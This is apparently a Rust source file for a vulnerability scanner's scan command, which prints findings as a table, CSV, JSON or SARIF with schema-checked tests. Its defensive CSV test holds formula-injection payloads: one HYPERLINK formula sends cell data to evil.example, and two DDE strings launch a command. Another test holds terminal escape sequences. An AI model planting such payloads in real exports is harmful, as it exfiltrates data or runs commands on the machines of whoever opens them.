//! `phantom scan`.

use std::{process::ExitCode, time::Duration};

use super::remote::RemoteChannel;
use comfy_table::{Table, presets::UTF8_FULL_CONDENSED};
use indicatif::{ProgressBar, ProgressStyle};
use phantom_proto::pb::{self, scan_orchestrator_client::ScanOrchestratorClient};
use serde_json::{Value, json};
use tokio_stream::StreamExt;

use super::Output;
use super::{connect, exit_for, print_status, rfc3339, terminal::inert};

/// What to scan.
#[derive(Debug)]
pub struct Args {
    /// scan-orchestrator URL.
    pub addr: String,
    /// Targets.
    pub targets: Vec<String>,
    /// Port specification ("" for the server's default).
    pub ports: String,
    /// Engine.
    pub scanner: String,
    /// Idempotency key ("" for none).
    pub idempotency_key: String,
    /// Follow the scan to its end.
    pub wait: bool,
    /// Output format.
    pub output: Output,
    /// The credential and transport.
    pub credentials: super::remote::Credentials,
}

fn state_name(state: i32) -> &'static str {
    pb::ScanState::try_from(state)
        .map(|s| s.as_str_name().trim_start_matches("SCAN_STATE_"))
        .unwrap_or("UNKNOWN")
}

fn severity_name(severity: i32) -> &'static str {
    pb::Severity::try_from(severity)
        .map(|s| s.as_str_name().trim_start_matches("SEVERITY_"))
        .unwrap_or("UNKNOWN")
}

/// Submits a scan, follows it, prints its findings.
pub async fn run(args: Args) -> ExitCode {
    let channel = match connect(&args.addr, &args.credentials).await {
        Ok(c) => c,
        Err(code) => return code,
    };
    let mut client = ScanOrchestratorClient::new(channel);
    let request = pb::CreateScanRequest {
        targets: args.targets.clone(),
        ports: args.ports.clone(),
        scanner: args.scanner.clone(),
        idempotency_key: args.idempotency_key.clone(),
    };
    let mut scan = match client.create_scan(request).await {
        Ok(r) => r.into_inner(),
        Err(status) => {
            print_status("CreateScan", &status);
            return exit_for(&status);
        }
    };
    if args.wait {
        match follow(&mut client, &scan, args.output).await {
            Ok(done) => scan = done,
            Err(status) => {
                print_status("WatchScan", &status);
                return exit_for(&status);
            }
        }
    }
    let findings = match all_findings(&mut client, &scan.id).await {
        Ok(f) => f,
        Err(status) => {
            print_status("ListFindings", &status);
            return exit_for(&status);
        }
    };
    match args.output {
        Output::Json => super::outln!(
            "{}",
            serde_json::to_string_pretty(&json!({
                "scan": scan_json(&scan),
                "findings": findings.iter().map(finding_json).collect::<Vec<_>>(),
            }))
            .expect("json")
        ),
        Output::Table => super::outln!("{}", table(&scan, &findings)),
        Output::Csv => super::outln!("{}", csv(&findings).trim_end()),
        Output::Sarif => super::outln!(
            "{}",
            serde_json::to_string_pretty(&sarif(&scan, &findings)).expect("json")
        ),
    }
    match pb::ScanState::try_from(scan.state) {
        Ok(pb::ScanState::Failed) => ExitCode::FAILURE,
        _ => ExitCode::SUCCESS,
    }
}

/// Follows the scan's events with a progress bar until it reaches a final state.
async fn follow(
    client: &mut ScanOrchestratorClient<RemoteChannel>,
    scan: &pb::Scan,
    output: Output,
) -> Result<pb::Scan, tonic::Status> {
    let bar = if output == Output::Table {
        ProgressBar::new(100)
    } else {
        ProgressBar::hidden()
    };
    bar.set_style(
        ProgressStyle::with_template("{spinner} [{elapsed_precise}] [{bar:40}] {pos:>3}% {msg}")
            .expect("valid template")
            .progress_chars("=> "),
    );
    bar.enable_steady_tick(Duration::from_millis(120));
    let mut last = scan.clone();
    let mut stream = client
        .watch_scan(pb::WatchScanRequest {
            id: scan.id.clone(),
        })
        .await?
        .into_inner();
    while let Some(event) = stream.next().await {
        let event = event?;
        let Some(s) = event.scan else { continue };
        bar.set_position(u64::from(s.progress_percent));
        bar.set_message(format!(
            "{} · {} findings · {}",
            state_name(s.state),
            s.findings_count,
            inert(&event.message)
        ));
        let done = !matches!(
            pb::ScanState::try_from(s.state),
            Ok(pb::ScanState::Pending | pb::ScanState::Running)
        );
        last = s;
        if done {
            break;
        }
    }
    bar.finish_and_clear();
    Ok(last)
}

pub(crate) async fn all_findings(
    client: &mut ScanOrchestratorClient<RemoteChannel>,
    scan_id: &str,
) -> Result<Vec<pb::Finding>, tonic::Status> {
    let mut out = Vec::new();
    let mut token = String::new();
    loop {
        let page = client
            .list_findings(pb::ListFindingsRequest {
                scan_id: scan_id.to_owned(),
                page_size: 1000,
                page_token: token,
                ..Default::default()
            })
            .await?
            .into_inner();
        out.extend(page.findings);
        if page.next_page_token.is_empty() {
            return Ok(out);
        }
        token = page.next_page_token;
    }
}

/// The scan and its findings as a table.
fn table(scan: &pb::Scan, findings: &[pb::Finding]) -> String {
    let mut out = String::new();
    out.push_str(&format!(
        "Scan {}: {} · {}% · {} findings · targets {} · ports {}\n",
        inert(&scan.id),
        state_name(scan.state),
        scan.progress_percent,
        scan.findings_count,
        inert(&scan.targets.join(" ")),
        inert(&scan.ports)
    ));
    if !scan.error.is_empty() {
        out.push_str(&format!("Error: {}\n", inert(&scan.error)));
    }
    if findings.is_empty() {
        out.push_str("No findings.");
        return out;
    }
    let mut table = Table::new();
    table.load_preset(UTF8_FULL_CONDENSED);
    table.set_header([
        "TARGET", "PORT", "SERVICE", "SEVERITY", "SCORE", "CONF", "FINDING", "BANNER",
    ]);
    for f in findings {
        let (score, confidence) = f
            .analysis
            .as_ref()
            .map_or((f.cvss_score, String::new()), |a| {
                (a.score, a.confidence.to_string())
            });
        let banner: String = f
            .banner
            .lines()
            .next()
            .unwrap_or_default()
            .chars()
            .take(40)
            .collect();
        let cells = [
            if f.hostname.is_empty() {
                f.target.clone()
            } else {
                format!("{} ({})", f.hostname, f.target)
            },
            format!("{}/{}", f.port, f.protocol),
            f.service.clone(),
            severity_name(f.severity).to_owned(),
            format!("{score:.1}"),
            confidence,
            f.analysis
                .as_ref()
                .map_or_else(|| f.title.clone(), |a| a.summary.clone()),
            banner,
        ];
        // Banners and titles are what scanned services said: shown, never acted on.
        table.add_row(cells.map(|c| inert(&c).into_owned()));
    }
    out.push_str(&table.to_string());
    out
}

fn scan_json(s: &pb::Scan) -> Value {
    json!({
        "id": s.id,
        "state": state_name(s.state),
        "targets": s.targets,
        "ports": s.ports,
        "scanner": s.scanner,
        "progress_percent": s.progress_percent,
        "findings_count": s.findings_count,
        "probes_total": s.probes_total,
        "probes_done": s.probes_done,
        "created_at": rfc3339(s.created_at.as_ref()),
        "started_at": rfc3339(s.started_at.as_ref()),
        "finished_at": rfc3339(s.finished_at.as_ref()),
        "error": s.error,
        "idempotency_key": s.idempotency_key,
    })
}

fn finding_json(f: &pb::Finding) -> Value {
    json!({
        "id": f.id,
        "target": f.target,
        "hostname": f.hostname,
        "port": f.port,
        "protocol": f.protocol,
        "service": f.service,
        "banner": f.banner,
        "engine": f.engine,
        "check_id": f.check_id,
        "title": f.title,
        "severity": severity_name(f.severity),
        "cvss_score": f.cvss_score,
        "fingerprint": f.fingerprint,
        "analysis": f.analysis.as_ref().map(|a| json!({
            "score": a.score,
            "severity": severity_name(a.severity),
            "analyzer": a.analyzer,
            "confidence": a.confidence,
            "summary": a.summary,
            "remediation": a.remediation,
            "degraded": a.degraded,
        })),
    })
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A CSV field: neutralised (a cell a spreadsheet would run as a formula gets a leading
/// `'`, which makes it text: a banner `=HYPERLINK(...)` stays a banner), its control
/// characters escaped (one record per line, nothing for a terminal to act on), then quoted
/// when it has to be (RFC 4180).
fn field(v: &str) -> String {
    let v = if v.starts_with(FORMULA_STARTS) {
        format!("'{v}")
    } else {
        v.to_owned()
    };
    let v = inert(&v);
    if v.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", v.replace('"', "\"\""))
    } else {
        v.into_owned()
    }
}

/// The findings as CSV, with a header row.
pub fn csv(findings: &[pb::Finding]) -> String {
    let mut out = String::from(
        "id,target,hostname,port,protocol,service,severity,score,analyzer,engine,check_id,title,cve_ids,fingerprint,banner\n",
    );
    for f in findings {
        let (score, analyzer) = f
            .analysis
            .as_ref()
            .map_or((f.cvss_score, ""), |a| (a.score, a.analyzer.as_str()));
        let row = [
            f.id.clone(),
            f.target.clone(),
            f.hostname.clone(),
            f.port.to_string(),
            f.protocol.clone(),
            f.service.clone(),
            severity_name(f.severity).to_owned(),
            format!("{score:.1}"),
            analyzer.to_owned(),
            f.engine.clone(),
            f.check_id.clone(),
            f.title.clone(),
            f.cve_ids.join(" "),
            f.fingerprint.clone(),
            f.banner.clone(),
        ];
        out.push_str(&row.iter().map(|v| field(v)).collect::<Vec<_>>().join(","));
        out.push('\n');
    }
    out
}

/// Where the SARIF 2.1.0 schema is published (OASIS Standard, errata 01): the log's `$schema`.
const SARIF_SCHEMA: &str =
    "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json";

/// SARIF's level for a severity: what GitHub code scanning and IDEs sort and colour by.
fn sarif_level(severity: i32) -> &'static str {
    match pb::Severity::try_from(severity).unwrap_or(pb::Severity::Unspecified) {
        pb::Severity::Critical | pb::Severity::High => "error",
        pb::Severity::Medium => "warning",
        pb::Severity::Low => "note",
        pb::Severity::Info | pb::Severity::Unspecified => "none",
    }
}

/// SARIF's `baselineState` for how a finding compares with its asset's previous scan (SARIF
/// 2.1.0 section 3.27.24): a reopened finding is new again to whoever triages it. `None`
/// when it was not compared (no asset, or the scan has not ended).
fn baseline_state(change: i32) -> Option<&'static str> {
    match pb::FindingChange::try_from(change).unwrap_or(pb::FindingChange::Unspecified) {
        pb::FindingChange::New | pb::FindingChange::Reopened => Some("new"),
        pb::FindingChange::StillOpen => Some("unchanged"),
        pb::FindingChange::Fixed => Some("absent"),
        pb::FindingChange::Unspecified => None,
    }
}

/// A finding's score: the analyzer's when it has one, else the engine's.
fn finding_score(f: &pb::Finding) -> f64 {
    f.analysis.as_ref().map_or(f.cvss_score, |a| a.score)
}

/// The scan as a SARIF 2.1.0 log that validates against the OASIS schema and that GitHub code
/// scanning ingests:
/// - `tool.driver.rules`: one per check id, with the severity GitHub sorts by
///   (`properties.security-severity`, the highest score the check got) and the level of its
///   worst finding as its default; `helpUri` is the NVD page of the check's first CVE.
/// - one result per finding, pointing at its rule (`ruleId`, `ruleIndex`), its level from its
///   severity, located at `tcp://address:port` (GitHub requires a physical location; an
///   endpoint is no file, so it is also given as a logical location), the finding's
///   fingerprint both as the stable `fingerprints` and as `partialFingerprints` (so
///   dashboards track it across scans), and `baselineState` from `Finding.change`.
pub fn sarif(scan: &pb::Scan, findings: &[pb::Finding]) -> Value {
    // Rules in order of first appearance; the index is each result's `ruleIndex`.
    let mut index: std::collections::HashMap<&str, usize> = std::collections::HashMap::new();
    let mut checks: Vec<Vec<&pb::Finding>> = Vec::new();
    for f in findings {
        let i = *index.entry(f.check_id.as_str()).or_insert_with(|| {
            checks.push(Vec::new());
            checks.len() - 1
        });
        checks[i].push(f);
    }
    let rules: Vec<Value> = checks
        .iter()
        .map(|of_check| {
            let first = of_check[0];
            let worst = of_check
                .iter()
                .max_by_key(|f| f.severity)
                .expect("a check has findings");
            let top = of_check
                .iter()
                .map(|f| finding_score(f))
                .fold(0.0_f64, f64::max);
            let mut rule = json!({
                "id": first.check_id,
                "name": first.check_id,
                "shortDescription": {"text": first.title},
                "defaultConfiguration": {"level": sarif_level(worst.severity)},
                "properties": {
                    "security-severity": format!("{top:.1}"),
                    "tags": ["security", first.engine.as_str()],
                },
            });
            if let Some(cve) = of_check.iter().find_map(|f| f.cve_ids.first()) {
                rule["helpUri"] = json!(format!("https://nvd.nist.gov/vuln/detail/{cve}"));
            }
            if let Some(a) = first
                .analysis
                .as_ref()
                .filter(|a| !a.remediation.is_empty())
            {
                rule["help"] = json!({"text": a.remediation});
            }
            rule
        })
        .collect();
    let results: Vec<Value> = findings
        .iter()
        .map(|f| {
            let host = if f.target.contains(':') { format!("[{}]", f.target) } else { f.target.clone() };
            let protocol = if f.protocol.is_empty() { "tcp" } else { &f.protocol };
            let endpoint = format!("{protocol}://{host}:{}", f.port);
            let text = f.analysis.as_ref().map_or_else(|| f.title.clone(), |a| format!("{} {}", f.title, a.summary));
            let mut properties = json!({
                "severity": severity_name(f.severity),
                "score": finding_score(f),
                "cve": f.cve_ids,
                "engine": f.engine,
                "service": f.service,
                "banner": f.banner,
            });
            if !f.hostname.is_empty() {
                properties["hostname"] = json!(f.hostname);
            }
            if let Some(cvss) = f.analysis.as_ref().and_then(|a| a.cvss.as_ref()) {
                properties["cvss"] = json!({
                    "version": cvss.version,
                    "vector": cvss.normalized_vector,
                    "baseScore": cvss.base_score,
                });
                if cvss.version == "4.0" {
                    properties["cvss"]["score"] = json!(cvss.v4_score);
                    properties["cvss"]["nomenclature"] = json!(cvss.v4_nomenclature);
                } else {
                    properties["cvss"]["temporalScore"] = json!(cvss.temporal_score);
                    properties["cvss"]["environmentalScore"] = json!(cvss.environmental_score);
                }
            }
            let mut result = json!({
                "ruleId": f.check_id,
                "ruleIndex": index[f.check_id.as_str()],
                "level": sarif_level(f.severity),
                "message": {"text": text},
                "locations": [{
                    "physicalLocation": {"artifactLocation": {"uri": endpoint}},
                    "logicalLocations": [{"name": format!("{host}:{}", f.port), "fullyQualifiedName": endpoint, "kind": "resource"}],
                }],
                "properties": properties,
            });
            // An empty fingerprint (never sent by the orchestrator) identifies nothing.
            if !f.fingerprint.is_empty() {
                result["fingerprints"] = json!({"phantom/v1": f.fingerprint});
                result["partialFingerprints"] = json!({"phantomFingerprint/v1": f.fingerprint});
            }
            if let Some(state) = baseline_state(f.change) {
                result["baselineState"] = json!(state);
            }
            result
        })
        .collect();
    json!({
        "$schema": SARIF_SCHEMA,
        "version": "2.1.0",
        "runs": [{
            "tool": {"driver": {
                "name": "phantom",
                "version": env!("CARGO_PKG_VERSION"),
                "semanticVersion": env!("CARGO_PKG_VERSION"),
                "informationUri": "https://github.com/phantom-sec/phantom",
                "rules": rules,
            }},
            "automationDetails": {"id": format!("phantom/scan/{}", scan.id)},
            "results": results,
        }]
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding() -> pb::Finding {
        pb::Finding {
            id: "f1".into(),
            target: "10.0.0.5".into(),
            port: 22,
            protocol: "tcp".into(),
            service: "ssh".into(),
            engine: "builtin".into(),
            check_id: "open-port".into(),
            title: "Port 22/tcp open, \"ssh\"".into(),
            severity: pb::Severity::High as i32,
            fingerprint: "abc".into(),
            banner: "SSH-2.0-OpenSSH_9.2\nx".into(),
            ..Default::default()
        }
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let out = csv(&[finding()]);
        let row = out.lines().nth(1).unwrap();
        assert!(row.contains("\"Port 22/tcp open, \"\"ssh\"\"\""), "{row}");
        assert_eq!(out.lines().next().unwrap().split(',').count(), 15);
    }

    /// The records of `text` (RFC 4180: quoted fields may hold commas, quotes, line breaks).
    fn records(text: &str) -> Vec<Vec<String>> {
        let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
        let (mut quoted, mut chars) = (false, text.chars().peekable());
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                (true, '"') => quoted = false,
                (true, c) => field.push(c),
                (false, '"') => quoted = true,
                (false, ',') => record.push(std::mem::take(&mut field)),
                (false, '\n') => {
                    record.push(std::mem::take(&mut field));
                    records.push(std::mem::take(&mut record));
                }
                (false, c) => field.push(c),
            }
        }
        if !field.is_empty() || !record.is_empty() {
            record.push(field);
            records.push(record);
        }
        records
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
        for banner in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ] {
            let out = csv(&[pb::Finding {
                banner: banner.into(),
                ..finding()
            }]);
            let rows = records(&out);
            assert_eq!(rows.len(), 2, "{out:?}");
            let cell = &rows[1][14];
            assert!(cell.starts_with('\''), "{banner:?} became {cell:?}");
        }
        let rows = records(&csv(&[finding()]));
        assert_eq!(rows[1][5], "ssh", "ordinary cells are left alone");
        assert_eq!(rows[1][11], "Port 22/tcp open, \"ssh\"");
    }

    #[test]
    fn scan_tables_and_csv_are_inert_on_a_terminal() {
        let hostile = pb::Finding {
            hostname: "h\u{9b}31m".into(),
            title: "\u{202e}txt.exe".into(),
            banner: "\u{1b}]0;owned\u{7}\u{1b}[2J SSH-2.0".into(),
            ..finding()
        };
        let scan = pb::Scan {
            id: "s1".into(),
            error: "engine said \u{1b}[31mno".into(),
            ..Default::default()
        };
        for text in [
            table(&scan, std::slice::from_ref(&hostile)),
            csv(std::slice::from_ref(&hostile)),
        ] {
            assert_eq!(
                crate::commands::terminal_hazards(&text),
                Vec::<char>::new(),
                "{text}"
            );
        }
    }

    /// The log validated against the OASIS SARIF 2.1.0 schema; every violation, listed.
    fn schema_violations(log: &Value) -> Vec<String> {
        let schema: Value =
            serde_json::from_str(include_str!("../../tests/data/sarif-schema-2.1.0.json"))
                .expect("the schema is JSON");
        let validator = jsonschema::draft4::options()
            .should_validate_formats(true)
            .build(&schema)
            .expect("the schema compiles");
        validator
            .iter_errors(log)
            .map(|e| format!("{} at {}", e, e.instance_path()))
            .collect()
    }

    /// A short scan's findings: every severity, with and without CVEs and analyses, every
    /// change state, IPv4 and IPv6, a hostname.
    fn short_scan() -> Vec<pb::Finding> {
        let at = |severity: pb::Severity, change: pb::FindingChange| pb::Finding {
            severity: severity as i32,
            change: change as i32,
            ..finding()
        };
        vec![
            // Open SSH port, HIGH by the rules, new on this asset.
            at(pb::Severity::High, pb::FindingChange::New),
            // The same check on another port, still open.
            pb::Finding {
                port: 2222,
                fingerprint: "def".into(),
                ..at(pb::Severity::Info, pb::FindingChange::StillOpen)
            },
            // A CVE found by nuclei, analyzed from a CVSS v3.1 vector, reopened.
            pb::Finding {
                engine: "nuclei".into(),
                check_id: "CVE-2021-44228".into(),
                title: "Apache Log4j2 remote code execution".into(),
                port: 8080,
                service: "http".into(),
                hostname: "app.example.com".into(),
                cve_ids: vec!["CVE-2021-44228".into()],
                cvss_vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H".into(),
                cvss_score: 10.0,
                fingerprint: "log4j".into(),
                analysis: Some(pb::Analysis {
                    score: 10.0,
                    severity: pb::Severity::Critical as i32,
                    summary: "scored from the engine's vector".into(),
                    remediation: "Upgrade Log4j to 2.17.1 or later.".into(),
                    cvss: Some(pb::CvssScores {
                        version: "3.1".into(),
                        base_score: 10.0,
                        temporal_score: 10.0,
                        environmental_score: 10.0,
                        normalized_vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H".into(),
                        ..Default::default()
                    }),
                    ..Default::default()
                }),
                ..at(pb::Severity::Critical, pb::FindingChange::Reopened)
            },
            // A v4.0-scored finding over IPv6, medium, fixed since the previous scan.
            pb::Finding {
                target: "2001:db8::5".into(),
                engine: "nuclei".into(),
                check_id: "CVE-2025-47273".into(),
                title: "setuptools path traversal".into(),
                port: 443,
                cve_ids: vec!["CVE-2025-47273".into(), "CVE-2025-0001".into()],
                fingerprint: "st".into(),
                analysis: Some(pb::Analysis {
                    score: 6.9,
                    cvss: Some(pb::CvssScores {
                        version: "4.0".into(),
                        base_score: 8.7,
                        v4_score: 6.9,
                        v4_nomenclature: "CVSS-BT".into(),
                        ..Default::default()
                    }),
                    ..Default::default()
                }),
                ..at(pb::Severity::Medium, pb::FindingChange::Fixed)
            },
            // Low, UDP, not compared (no asset).
            pb::Finding {
                protocol: "udp".into(),
                port: 161,
                check_id: "snmp-public".into(),
                title: "SNMP answers the community \"public\"".into(),
                fingerprint: "snmp".into(),
                ..at(pb::Severity::Low, pb::FindingChange::Unspecified)
            },
            // Not analyzed yet: no severity.
            pb::Finding {
                check_id: "banner".into(),
                fingerprint: String::new(),
                ..at(pb::Severity::Unspecified, pb::FindingChange::Unspecified)
            },
        ]
    }

    #[test]
    fn sarif_of_a_short_scan_validates_against_the_oasis_schema() {
        let log = sarif(
            &pb::Scan {
                id: "s1".into(),
                ..Default::default()
            },
            &short_scan(),
        );
        assert_eq!(schema_violations(&log), Vec::<String>::new());
        // The empty log too.
        let empty = sarif(&pb::Scan::default(), &[]);
        assert_eq!(schema_violations(&empty), Vec::<String>::new());
    }

    #[test]
    fn the_schema_check_catches_what_the_schema_forbids() {
        let mut log = sarif(&pb::Scan::default(), &short_scan());
        log["runs"][0]["results"][0]["baselineState"] = json!("reopened");
        log["runs"][0]["results"][1]["level"] = json!("info");
        log["runs"][0]["tool"]["driver"]["rules"][0]
            .as_object_mut()
            .unwrap()
            .remove("id");
        let violations = schema_violations(&log);
        assert_eq!(violations.len(), 3, "{violations:#?}");
    }

    #[test]
    fn sarif_carries_rules_levels_fingerprints_and_baseline_states() {
        let log = sarif(
            &pb::Scan {
                id: "s1".into(),
                ..Default::default()
            },
            &short_scan(),
        );
        assert_eq!(log["version"], "2.1.0");
        let run = &log["runs"][0];
        assert_eq!(run["automationDetails"]["id"], "phantom/scan/s1");
        let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
        let ids: Vec<&str> = rules.iter().map(|r| r["id"].as_str().unwrap()).collect();
        assert_eq!(
            ids,
            [
                "open-port",
                "CVE-2021-44228",
                "CVE-2025-47273",
                "snmp-public",
                "banner"
            ],
            "one rule per check, in order of first appearance"
        );
        // A check's default level is its worst finding's; security-severity its top score.
        assert_eq!(rules[0]["defaultConfiguration"]["level"], "error");
        assert_eq!(rules[1]["properties"]["security-severity"], "10.0");
        assert_eq!(
            rules[1]["helpUri"],
            "https://nvd.nist.gov/vuln/detail/CVE-2021-44228"
        );
        assert_eq!(
            rules[1]["help"]["text"],
            "Upgrade Log4j to 2.17.1 or later."
        );
        assert!(rules[0].get("helpUri").is_none(), "no CVE, no help page");

        let results = run["results"].as_array().unwrap();
        for r in results {
            let i = usize::try_from(r["ruleIndex"].as_u64().unwrap()).unwrap();
            assert_eq!(rules[i]["id"], r["ruleId"], "ruleIndex points at ruleId");
        }
        let field = |key: &str| -> Vec<Value> { results.iter().map(|r| r[key].clone()).collect() };
        assert_eq!(
            field("level"),
            ["error", "none", "error", "warning", "note", "none"].map(|l| json!(l))
        );
        assert_eq!(
            field("baselineState"),
            [
                json!("new"),
                json!("unchanged"),
                json!("new"),
                json!("absent"),
                Value::Null,
                Value::Null
            ]
        );
        let r = &results[0];
        assert_eq!(
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
            "tcp://10.0.0.5:22"
        );
        assert_eq!(r["partialFingerprints"]["phantomFingerprint/v1"], "abc");
        assert_eq!(r["fingerprints"]["phantom/v1"], "abc");
        assert_eq!(
            results[3]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
            "tcp://[2001:db8::5]:443"
        );
        assert_eq!(results[3]["properties"]["cvss"]["nomenclature"], "CVSS-BT");
        assert_eq!(results[2]["properties"]["hostname"], "app.example.com");
        assert_eq!(results[2]["properties"]["cvss"]["environmentalScore"], 10.0);
        assert!(results[5].get("fingerprints").is_none());
    }
}
